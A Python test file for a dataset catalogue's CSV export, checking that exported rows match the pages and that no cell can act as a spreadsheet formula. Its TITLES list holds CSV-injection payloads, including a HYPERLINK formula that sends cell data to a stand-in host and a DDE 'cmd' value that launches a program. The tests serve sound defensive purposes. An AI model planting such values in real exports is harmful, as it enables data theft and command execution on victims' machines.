"""Lists as CSV: the rows of the pages, and no formulas for spreadsheets."""

import csv
import io

import pytest

from neuromirror.model import DatasetFacts
from neuromirror.web.pages.downloads import escape_cell
from support.running_catalogue import RunningCatalogue, run_catalogue
from support.scripted_source import ScriptedDataset, ScriptedFile, ScriptedHarness

TITLES = [
    '=HYPERLINK("http://x.example.org/?"&A1,"open")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\uff1d1+1",
    "plain - title = of @ all",
]


def table(site: RunningCatalogue, path: str) -> list[dict[str, str]]:
    """Return the rows of a CSV file."""
    reply = site.get(path)
    assert (reply.status_code, reply.headers["content-type"]) == (200, "text/csv; charset=utf-8")
    return list(csv.DictReader(io.StringIO(reply.text)))


@pytest.mark.parametrize("query", ["", "q=demo", "q=mouse&status=published", "sort=title&size=x"])
def test_a_search_has_all_its_results_as_csv(site: RunningCatalogue, query: str) -> None:
    rows = table(site, f"/search?{query}&format=csv")
    expected, following = [], f"{site.address}/api/v1/search?{query}&limit=3"
    while following:
        page = site.get(following).json()
        expected += page["found"]
        following = page["next"]
    assert [row["name"] for row in rows] == [one["dataset"]["name"] for one in expected]
    for row, one in zip(rows, expected, strict=True):
        assert row["files"] == str(one["dataset"]["files"])
        assert row["title"] == one["dataset"]["title"]
        assert row["path"] == (one["path"] or "")
    assert all(site.get(row["url"]).status_code == 200 for row in rows[:2])


def test_changes_and_archives_have_the_rows_of_their_pages_as_csv(site: RunningCatalogue) -> None:
    rows = table(site, "/changes?format=csv")
    assert rows
    of_datasets = {row["dataset"]: row for row in rows}
    assert len(of_datasets) == len(rows)
    assert {row["name"] for row in rows} <= {
        f"{row['dataset']}@{row['name'].partition('@')[2]}" for row in rows
    }
    recorded = [row["recorded"] for row in rows if row["archive"] == rows[0]["archive"]]
    assert recorded == sorted(recorded, reverse=True)
    (archive,) = table(site, "/mirrors?format=csv")
    known = site.api("/mirrors")["mirrors"][0]
    assert (archive["mirror"], archive["datasets"]) == ("demo", str(known["datasets"]))
    assert archive["listed"]


def test_no_cell_of_any_csv_is_a_formula(box: ScriptedHarness) -> None:
    for number, title in enumerate(TITLES):
        box.datasets[f"thing{number}"] = ScriptedDataset(
            {f"=a{number}.txt": ScriptedFile(b"1")}, facts=DatasetFacts(title=title)
        )
    box.sync()
    with run_catalogue(box.store) as site:
        for path in ("/search?format=csv", "/search?q=a5&format=csv", "/changes?format=csv"):
            rows = table(site, path)
            assert len(rows) == (1 if "q=" in path else len(TITLES))
            cells = [cell for row in rows for cell in row.values()]
            formulas = [one for one in cells if one.startswith(("=", "+", "@", "\uff1d", "-2"))]
            assert formulas == [], path


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        *((text, f"'{text}") for text in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1")),
        *((text, f"'{text}") for text in ("\uff0b1", "\ufeff=1", "\0=1")),
        *((value, value) for value in ("", "a=1", " =1", 0, -1, -1.5, None, "1-2")),
        *(("a;=1", "a;'=1"), ("a; @b;-1", "a; '@b;'-1"), ('a;"=1', "a;\"'=1"), ("a\t+1", "a\t'+1")),
    ],
)
def test_no_part_of_a_text_is_a_formula(value: object, escaped: object) -> None:
    assert escape_cell(value) == escaped
